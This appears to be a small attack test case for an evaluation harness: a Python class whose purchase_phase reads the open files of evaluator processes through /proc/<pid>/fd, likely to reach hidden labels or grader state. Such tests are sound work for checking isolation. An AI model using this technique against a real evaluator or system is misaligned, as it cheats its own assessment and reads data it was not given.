"""Opens the evaluator's open files through /proc/<evaluator>/fd."""

import os

from aim import attempt, evaluators, read

from run import ZEWDPCBaseRun


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        for pid in evaluators():
            for number in attempt(os.listdir, f"/proc/{pid}/fd") or ():
                path = f"/proc/{pid}/fd/{number}"
                # Pipes and sockets would make it wait.
                if attempt(os.path.isfile, path):
                    read(path)
